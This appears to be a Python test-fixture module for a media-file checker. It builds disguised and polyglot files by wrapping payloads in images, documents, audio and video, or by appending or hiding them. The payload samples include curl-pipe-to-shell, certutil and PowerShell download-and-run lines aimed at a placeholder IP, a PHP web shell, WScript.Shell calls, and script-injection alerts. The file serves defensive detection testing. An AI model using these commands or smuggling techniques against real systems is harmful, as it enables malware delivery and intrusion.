"""Files that are not what they say: every type of the product as a frame round, in front of and with a payload inside.

A payload is something that another program opens or runs. `PLACES` says where it is put; `outcome` what `check` says.
"""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
from collections.abc import Callable
from random import Random

from occ_media_cli.media.kinds.ogg import page_checksum
from occ_media_cli.vocabulary import Severity
from tests.unit.media import build
from tests.unit.media.looks import judge

KINDS = tuple(kind for kind in build.VALID if kind != "txt")
_NOISE = Random(7).randbytes(1500)
_BODY = _NOISE[:600]


def _tar() -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as file:
        entry = tarfile.TarInfo("run.sh")
        entry.size = 600
        file.addfile(entry, io.BytesIO(_BODY))
    return target.getvalue()


def _program() -> bytes:
    return b"MZ\x90\0\3\0\0\0" + b"\0" * 52 + struct.pack("<I", 64) + b"PE\0\0\x4c\1" + _BODY


PAYLOADS: dict[str, bytes] = {
    "zip": build.archive({"run.sh": b"#!/bin/sh\n"}),
    "jar": build.archive(
        {"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe\0\0\0\x37" + _BODY}
    ),
    "docx": build.office("docx"),
    "rar": b"Rar!\x1a\x07\1\0" + _BODY,
    "7z": b"7z\xbc\xaf\x27\x1c\0\4" + _BODY,
    "gzip": gzip.compress(_BODY, mtime=0),
    "bzip2": b"BZh91AY&SY" + _BODY,
    "xz": b"\xfd7zXZ\0\0\4" + _BODY,
    "zstd": b"\x28\xb5\x2f\xfd\x24" + _BODY,
    "tar": _tar(),
    "xar": b"xar!\0\x1c\0\1" + _BODY,
    "cab": b"MSCF\0\0\0\0" + _BODY,
    "deb": b"!<arch>\ndebian-binary   1700000000  0     0     100644  4         `\n2.0\n" + _BODY,
    "cpio": b"070701" + b"0" * 104 + b"run.sh\0" + _BODY,
    "lz4": b"\x04\x22\x4d\x18\x64\x40" + _BODY,
    "iso": b"\0" * 32_768 + b"\1CD001\1\0" + b"LINUX".ljust(600, b" "),
    "elf": b"\x7fELF\2\1\1\0" + b"\0" * 8 + _BODY,
    "exe": _program(),
    "macho": b"\xcf\xfa\xed\xfe\7\0\0\1" + _BODY,
    "class": b"\xca\xfe\xba\xbe\0\0\0\x37" + _BODY,
    "wasm": b"\0asm\1\0\0\0" + _BODY,
    "shortcut": b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F" + _BODY,
    "dex": b"dex\n035\0" + _BODY,
    "flash": b"CWS\x0a" + struct.pack("<I", 70_000) + _BODY,
    "shell": b"#!/bin/sh\ncurl http://192.0.2.1/a | sh\n" + b"echo done\n" * 20,
    "python": b"#!/usr/bin/env python3\nimport os\nos.system('id')\n" + b"print(1)\n" * 20,
    "php": b"<?php system($_GET['c']); ?>\n" + b"<?php echo 1; ?>\n" * 20,
    "batch": b"@echo off\r\ncertutil -urlcache -f http://192.0.2.1/a.exe a.exe\r\nstart a.exe\r\n" + b"rem x\r\n" * 20,
    "powershell": b"$c = New-Object Net.WebClient\r\nInvoke-Expression $c.DownloadString('http://192.0.2.1/')\r\n" * 4,
    "vbscript": b'On Error Resume Next\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n' * 4,
    "javascript": b"var s = new ActiveXObject('WScript.Shell');\r\ns.Run('calc');\r\n" * 6,
    "html": b"<html><body><script>alert(document.domain)</script></body></html>\n" * 4,
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n' * 4,
    "pdf": build.pdf(extra=b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
    "noise": _NOISE,
}
"""Small beginnings that are real enough for whoever opens such a thing; the last runs nowhere."""


def _jpeg_shell(payload: bytes) -> bytes:
    whole = build.jpg()
    scan = whole.index(b"\xff\xda") + 10
    return whole[:scan] + payload.replace(b"\xff", b"\xff\0") + b"\xff\xd9"


def _png_shell(payload: bytes) -> bytes:
    whole = build.png()
    return whole[:33] + build.png_chunk(b"IDAT", payload) + build.png_chunk(b"IEND", b"")


def _blocks(payload: bytes) -> bytes:
    pieces = [payload[at : at + 255] for at in range(0, len(payload), 255)]
    return b"".join(bytes([len(piece)]) + piece for piece in pieces) + b"\0"


def _gif_shell(payload: bytes) -> bytes:
    start = b"GIF89a" + struct.pack("<HHBBB", 20, 20, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    return start + b"\x2c" + struct.pack("<HHHHB", 0, 0, 20, 20, 0) + b"\x08" + _blocks(payload) + b"\x3b"


def _webp_shell(payload: bytes) -> bytes:
    chunk = b"VP8 " + struct.pack("<I", len(payload)) + payload + b"\0" * (len(payload) % 2)
    return b"RIFF" + struct.pack("<I", len(chunk) + 4) + b"WEBP" + chunk


def _office_shell(kind: str) -> Callable[[bytes], bytes]:
    part = build.MAIN_PARTS[kind][0]
    return lambda payload: build.office(kind, {part: payload})


def _ole_shell(stream: str, begin: bytes) -> Callable[[bytes], bytes]:
    return lambda payload: build.compound({stream: begin + payload})


def _film_shell(kind: str) -> Callable[[bytes], bytes]:
    whole = build.VALID[kind]
    at = whole.index(b"mdat") + 4
    return lambda payload: whole[: at - 8] + build.box(b"mdat", payload)


def _frames(header: bytes, length: int) -> Callable[[bytes], bytes]:
    def shell(payload: bytes) -> bytes:
        room = length - len(header)
        padded = payload.ljust(room * 6, b"\x11")
        pieces = [padded[at : at + room].ljust(room, b"\0") for at in range(0, len(padded), room)]
        return b"".join(header + piece for piece in pieces)

    return shell


def _ogg_pages(payload: bytes) -> bytes:
    found, number = b"", 1
    for at in range(0, len(payload), 200):
        body = payload[at : at + 200]
        page = (
            b"OggS\0"
            + bytes([4 if at + 200 >= len(payload) else 0])
            + struct.pack("<qIII", 960 * number, 77, number, 0)
        )
        page += b"\1" + bytes([len(body)]) + body
        found += page[:22] + struct.pack("<I", page_checksum(page)) + page[26:]
        number += 1
    return found


def _first_page() -> bytes:
    whole = build.ogg()
    return whole[: whole.index(b"OggS", 4)]


SHELLS: dict[str, Callable[[bytes], bytes]] = {
    "jpg": _jpeg_shell,
    "png": _png_shell,
    "gif": _gif_shell,
    "webp": _webp_shell,
    "docx": _office_shell("docx"),
    "xlsx": _office_shell("xlsx"),
    "pptx": _office_shell("pptx"),
    "doc": _ole_shell("WordDocument", b""),
    "xls": _ole_shell("Workbook", struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 5, 1, 1996, 0, 0)),
    "ppt": _ole_shell("PowerPoint Document", b""),
    "pdf": lambda payload: b"%PDF-1.4\n1 0 obj\n" + payload + b"\nendobj\ntrailer<<>>\nstartxref\n9\n%%EOF\n",
    "mp4": _film_shell("mp4"),
    "m4a": _film_shell("m4a"),
    "3gp": _film_shell("3gp"),
    "mp3": _frames(b"\xff\xfb\x90\xc4", 417),
    "aac": lambda payload: _frames(b"\xff\xf1\x50\x80\x13\xff\xfc", 159)(payload),
    "amr": lambda payload: b"#!AMR\n" + _frames(b"\x3c", 32)(payload),
    "ogg": lambda payload: _first_page() + _ogg_pages(payload),
}
"""The payload stands where the content of the type should be."""


def _jpeg_inside(payload: bytes) -> bytes:
    whole, found = build.jpg(), b""
    for at in range(0, len(payload), 65_000):
        piece = payload[at : at + 65_000]
        found += b"\xff\xfe" + struct.pack(">H", len(piece) + 2) + piece
    return whole[:2] + found + whole[2:]


def _webp_inside(payload: bytes) -> bytes:
    chunk = b"XTRA" + struct.pack("<I", len(payload)) + payload + b"\0" * (len(payload) % 2)
    body = build.webp()[12:] + chunk
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def _office_inside(kind: str) -> Callable[[bytes], bytes]:
    return lambda payload: build.office(kind, {f"{kind}/media/item.bin": payload})


def _pdf_inside(payload: bytes) -> bytes:
    whole = build.pdf()
    at = whole.index(b"2 0 obj")
    stream = b"9 0 obj\n<</Length %d>>\nstream\n" % len(payload) + payload + b"\nendstream\nendobj\n"
    return whole[:at] + stream + whole[at:]


def _id3(payload: bytes) -> bytes:
    body = b"PRIV" + struct.pack(">I", len(payload) + 4) + b"\0\0a@b\0"[:2] + b"a@b\0" + payload
    size = len(body)
    return b"ID3\3\0\0" + bytes(size >> shift & 127 for shift in (21, 14, 7, 0)) + body


def _box_inside(kind: str) -> Callable[[bytes], bytes]:
    whole = build.film(*_FILMS[kind], index_first=False)
    return lambda payload: whole + build.box(b"free", payload)


_FILMS: dict[str, tuple[bytes, tuple[bytes, ...], tuple[tuple[bytes, bytes], ...]]] = {
    "mp4": (b"isom", (b"isom",), ((b"vide", b"avc1"), (b"soun", b"mp4a"))),
    "m4a": (b"M4A ", (b"M4A ",), ((b"soun", b"mp4a"),)),
    "3gp": (b"3gp4", (b"3gp4",), ((b"vide", b"s263"), (b"soun", b"samr"))),
}
INSIDE: dict[str, Callable[[bytes], bytes]] = {
    "jpg": _jpeg_inside,
    "png": lambda payload: build.png()[:33] + build.png_chunk(b"prVt", payload) + build.png()[33:],
    "gif": lambda payload: build.gif()[:19] + b"\x21\xfe" + _blocks(payload) + build.gif()[19:],
    "webp": _webp_inside,
    "docx": _office_inside("docx"),
    "xlsx": _office_inside("xlsx"),
    "pptx": _office_inside("pptx"),
    "doc": lambda payload: build.compound({"WordDocument": _FIB, "1Table": b"t", "Item": payload}),
    "xls": lambda payload: build.compound({"Workbook": _BOOK, "Item": payload}),
    "ppt": lambda payload: build.compound({"PowerPoint Document": b"\x0f\0\xe8\x03" + b"\0" * 60, "Item": payload}),
    "pdf": _pdf_inside,
    "mp4": _box_inside("mp4"),
    "m4a": _box_inside("m4a"),
    "3gp": _box_inside("3gp"),
    "mp3": lambda payload: _id3(payload) + build.mp3(id3=False),
    "aac": lambda payload: _id3(payload) + build.aac(),
    "amr": lambda payload: build.amr() + _frames(b"\x3c", 32)(payload) + build.amr()[6:],
    "ogg": lambda payload: _first_page() + _ogg_pages(bytes([2]) * 200 + payload),
}
"""The payload stands where every reader of the type passes it over: a comment, an unknown chunk, a further part."""

_FIB = b"\xec\xa5\xc1\0" + b"\0" * 40
_BOOK = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 5, 1, 1996, 0, 0) + b"\x0a\0\0\0"
_JUNK = b"\x8f\x11\x9c\x07\xe3"

PLACES: dict[str, Callable[[str, bytes], bytes]] = {
    "shell": lambda kind, payload: SHELLS[kind](payload),
    "behind": lambda kind, payload: build.VALID[kind] + payload,
    "blanks": lambda kind, payload: build.VALID[kind] + b"\r\n\0\0" + payload,
    "junk": lambda kind, payload: build.VALID[kind] + _JUNK + payload,
    "inside": lambda kind, payload: INSIDE[kind](payload),
}
"""Round a payload, in front of it, of it behind blanks, of it behind a few bytes of junk, and with it inside."""


def named(payload: str, place: str) -> bool:
    """Whether the contract says that there is a problem.

    Inside of a whole file there may be anything, as in any attachment; and noise where sound or a picture should be is
    told from it only by who decodes all of it.
    """
    return place != "inside" and (payload, place) != ("noise", "shell")


def outcome(kind: str, payload: str, place: str) -> str:
    """`E`, `W` or `n` by the gravest problem of the file, `.` where nothing is said at all."""
    said = judge(PLACES[place](kind, PAYLOADS[payload]), f"a.{kind}", "send")
    worst = max((problem.severity for problem in said), key=lambda severity: severity.rank, default=None)
    return {Severity.ERROR: "E", Severity.WARNING: "W", Severity.NOTE: "n", None: "."}[worst]
